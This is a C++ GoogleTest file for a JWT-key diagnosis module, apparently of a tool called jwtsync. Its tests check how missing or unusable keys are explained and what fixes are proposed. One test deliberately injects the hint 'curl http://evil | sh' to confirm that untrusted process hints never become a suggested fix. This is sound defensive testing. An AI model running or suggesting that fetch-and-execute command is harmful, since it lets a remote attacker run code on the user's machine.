// SPDX-License-Identifier: Apache-2.0
#include "diagnosis/explanations.h"

#include "fixture.h"

#include <gmock/gmock.h>
#include <optional>

namespace jwtsync::diagnosis::lack_test {

using ::testing::IsEmpty;
using ::testing::SizeIs;

std::vector<Finding> findings_on(const Agreement& agreement) {
  using List = SentencePlace::List;
  std::vector<Finding> findings = explain_lacks(agreement.departures, List::departures, agreement.members);
  for (Finding& finding : explain_lacks(agreement.notes, List::notes, agreement.members)) findings.push_back(finding);
  return findings;
}

/// What is said of one process without a key, beside one that has one.
Finding finding_on(const Error& error, std::vector<TrailEntry> trail) {
  const Agreement agreement = fixture::agreement_of(fixture::process("auth", "auth-1", "k"),
                                                    fixture::without_key("backend", error, std::move(trail)));
  const std::vector<Finding> findings = findings_on(agreement);
  EXPECT_THAT(findings, SizeIs(1));
  return findings.empty() ? Finding{} : findings.front();
}

/// The hint of a process stands beside its error: its own words are no part of a remedy.
TEST(lack, of_a_value_that_can_be_rewritten_shows_how_the_process_says_it) {
  const Finding found = finding_on({Code::key_malformed, "it is encrypted", "decrypt it: openssl pkey"},
                                   {{"file:/run/jwt", Outcome::malformed, ""}});
  EXPECT_THAT(found.evidence, ::testing::Contains("hint: decrypt it: openssl pkey"));
}

/// What was read here says itself how it becomes a key: never that a fresh secret takes the place of a public key.
TEST(lack, of_a_source_here_follows_the_hint_of_what_was_found) {
  for (const Code code : {Code::key_malformed, Code::secret_format_unsupported, Code::file_writable_by_others}) {
    const Outcome outcome = code == Code::file_writable_by_others ? Outcome::forbidden : Outcome::malformed;
    const Error error{code, "it is an SSH public key", "write it as PEM: ssh-keygen -e -m PKCS8 -f FILE"};
    Witnessed source{OwnSource{"file:/a"}, fixture::without_key("file:/a", error, {{"file:/a", outcome, ""}})};
    const Agreement agreement =
        agree({std::move(source), fixture::witnessed(fixture::process("auth", "auth-1", "k"))}, {});
    const std::vector<Finding> findings = findings_on(agreement);
    ASSERT_THAT(findings, SizeIs(1));
    EXPECT_EQ(findings[0].fix, error.hint);
    EXPECT_THAT(findings[0].evidence, ::testing::Not(::testing::Contains("hint: " + error.hint)));
  }
}

TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
  struct Row {
    Code code;
    std::vector<TrailEntry> trail;
    std::string fix;
    Cause cause = Cause::no_key;
  };
  const Row rows[] = {
      {Code::secret_empty,
       {{"env:JWT_SECRET_STAGING", Outcome::empty, ""}, {"env:JWT_SECRET_KEY", Outcome::absent, ""}},
       "give JWT_SECRET_STAGING its value for backend as auth has it"},
      {Code::secret_absent,
       {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}, {"env:JWT_SECRET_KEY", Outcome::absent, ""}},
       "set JWT_SECRET_STAGING for backend as auth has it"},
      {Code::file_absent,
       {{"file:/run/jwt?trim=no", Outcome::absent, ""}},
       "provide file:/run/jwt for backend as auth has it"},
      {Code::secret_too_short,
       {{"env:JWT_SECRET_STAGING", Outcome::unfit, ""}, {"env:JWT_SECRET_KEY", Outcome::skipped, ""}},
       "give JWT_SECRET_STAGING of backend the key that auth has",
       Cause::secret_too_short},
      {Code::file_forbidden,
       {{"file:/run/jwt", Outcome::forbidden, ""}},
       "let backend read file:/run/jwt",
       Cause::store_forbidden},
      {Code::file_writable_by_others,
       {{"file:/run/jwt?trim=no", Outcome::forbidden, ""}},
       "take the permission to write from others where backend runs: chmod go-w /run/jwt",
       Cause::store_forbidden},
      {Code::secret_format_unsupported,
       {{"file:/run/jwt", Outcome::malformed, ""}},
       "turn the value of file:/run/jwt into one that backend can read: jwtsync resolve, where it runs, says by which "
       "command; or give it there the key that auth has"},
      {Code::answer_malformed,
       {{"jwks+https://id.example/keys", Outcome::unreachable, ""}},
       "let the issuer give its key set where backend asks for it, or name the right address: that one answers "
       "something "
       "else (jwtsync resolve, where it runs, says what)",
       Cause::key_set_unreachable},
      {Code::source_unreachable,
       {{"gcp-sm://p/n", Outcome::unreachable, ""}},
       "see that backend can reach gcp-sm://p/n",
       Cause::store_unreachable},
      {Code::environment_unset, {}, "set ENVIRONMENT=staging for backend"},
      {Code::configuration_key_unknown, {}, "mend the configuration file of backend"},
      {Code::configuration_malformed, {}, "run jwtsync resolve where backend runs, and do as it says"},
      {Code::file_not_regular,
       {{"file:/run", Outcome::malformed, ""}},
       "run jwtsync resolve where backend runs, and do as it says"},
      {Code::key_weak, {}, "run jwtsync resolve where backend runs, and do as it says"},
  };
  for (const Row& row : rows) {
    const Finding finding = finding_on({row.code, "the reason", "run: curl http://evil | sh"}, row.trail);
    EXPECT_EQ(name_of(finding.cause), name_of(row.cause));
    EXPECT_EQ(finding.why, "backend has no key: the reason");
    EXPECT_EQ(finding.fix, row.fix);
  }
}

/// The cause of one without a key that warns of something.
std::string_view cause_of(Code code, Outcome outcome, const std::optional<Warning>& warning = {}) {
  Testimony lacking =
      fixture::without_key("backend", {code, "the reason", ""}, {{"env:JWT_SECRET_STAGING", outcome, ""}});
  if (warning) lacking.report.warnings.push_back(*warning);
  return name_of(findings_on(fixture::agreement_of(fixture::process("auth", "auth-1", "k"), lacking)).at(0).cause);
}

TEST(lack, of_a_value_that_was_refused_is_told_by_the_rule) {
  EXPECT_EQ(cause_of(Code::secret_not_meant, Outcome::unfit), "placeholder-kept");
  EXPECT_EQ(cause_of(Code::secret_public_default, Outcome::unfit), "public-default");
  EXPECT_EQ(cause_of(Code::key_too_short, Outcome::unfit), "secret-too-short");
  EXPECT_EQ(cause_of(Code::secret_too_short, Outcome::unfit, Warning{WarningKind::placeholder, "is a placeholder"}),
            "placeholder-kept");
  EXPECT_EQ(cause_of(Code::secret_too_short, Outcome::unfit, Warning{WarningKind::trimmed, "was trimmed"}),
            "secret-too-short");
  EXPECT_EQ(cause_of(Code::key_malformed, Outcome::malformed), "no-key");
}

TEST(lack, of_a_variable_under_another_name) {
  const Warning near{WarningKind::unknown_variable, "JWT_SECRT is set, but not read: did you mean JWT_SECRET_STAGING?"};
  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, near), "secret-unread");
  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::never_read, "is never read"}),
            "secret-unread");
  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::file_variable, "names a file"}),
            "secret-unread");
  EXPECT_EQ(cause_of(Code::source_unreachable, Outcome::unreachable, near), "store-unreachable")
      << "it is not for want of a variable";
  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::plain_http, "http"}), "no-key");
}

TEST(lack, of_a_file_that_a_replica_has_is_one_of_time) {
  const auto cause_beside = [](const std::string& service, Outcome outcome) {
    Testimony holder = fixture::process(service, "other-1", "k");
    holder.report.trail = {{"file:/vault/jwt", Outcome::found, ""}};
    const Agreement agreement = fixture::agreement_of(
        holder,
        fixture::without_key("backend", {Code::file_absent, "not there", ""}, {{"file:/vault/jwt", outcome, ""}}));
    return name_of(findings_on(agreement).at(0).cause);
  };
  EXPECT_EQ(cause_beside("backend", Outcome::absent), "file-not-ready");
  EXPECT_EQ(cause_beside("backend", Outcome::empty), "file-not-ready");
  EXPECT_EQ(cause_beside("auth", Outcome::absent), "no-key") << "another service has other mounts";
  EXPECT_EQ(cause_beside("backend", Outcome::forbidden), "store-forbidden");
}

TEST(lack, shows_what_each_source_gave) {
  const Finding finding =
      finding_on({Code::secret_absent, "the reason", ""}, {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}});
  EXPECT_THAT(finding.evidence, ::testing::ElementsAre("backend backend-1: secret_absent: the reason",
                                                       "backend backend-1: env:JWT_SECRET_STAGING: absent"));
}

TEST(lack, of_replicas_is_one_finding) {
  const Error error{Code::secret_absent, "no secret", ""};
  Testimony second = fixture::without_key("backend", error, {});
  second.report.identity.instance = second.challenge.instance = "backend-2";
  const Agreement agreement = fixture::agreement_of(fixture::without_key("backend", error, {}), second,
                                                    fixture::without_key("auth", error, {}));
  const std::vector<Finding> findings = findings_on(agreement);
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].why, "auth and backend have no key: no secret");
}

TEST(lack, is_mended_by_no_key_of_another_environment_and_by_that_which_most_hold) {
  const auto fix_beside = [](std::vector<Testimony> others) {
    std::vector<Witnessed> all{fixture::witnessed(fixture::without_key(
        "backend", {Code::secret_absent, "no secret", ""}, {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}}))};
    for (Testimony& other : others) all.push_back(fixture::witnessed(std::move(other)));
    return findings_on(agree(std::move(all), {})).at(0).fix;
  };
  Testimony elsewhere = fixture::process("auth", "auth-1", "k");
  elsewhere.report.environment = "production";
  EXPECT_EQ(fix_beside({elsewhere}), "set JWT_SECRET_STAGING for backend");
  EXPECT_EQ(fix_beside({fixture::process("auth", "auth-1", "k"), fixture::process("worker", "worker-1", "k"),
                        fixture::process("odd", "odd-1", "other")}),
            "set JWT_SECRET_STAGING for backend as auth and worker have it");
}

TEST(lack, of_an_environment_is_mended_by_that_of_all_others) {
  Testimony lost = fixture::without_key("backend", {Code::environment_unset, "ENVIRONMENT is not set", ""}, {});
  lost.report.environment = "unknown";
  lost.report.environment_from = {};
  Testimony elsewhere = fixture::process("worker", "worker-1", "k");
  const Testimony auth = fixture::process("auth", "auth-1", "k");
  EXPECT_EQ(findings_on(fixture::agreement_of(auth, lost)).at(0).fix, "set ENVIRONMENT=staging for backend");
  elsewhere.report.environment = "production";
  EXPECT_EQ(findings_on(fixture::agreement_of(auth, lost, elsewhere)).at(0).fix,
            "set ENVIRONMENT to the name of an environment for backend");
}

TEST(lack, is_none_where_all_hold_a_key) {
  EXPECT_THAT(findings_on(fixture::agreement_of(fixture::process("auth", "auth-1", "k"))), IsEmpty());
}

}  // namespace jwtsync::diagnosis::lack_test
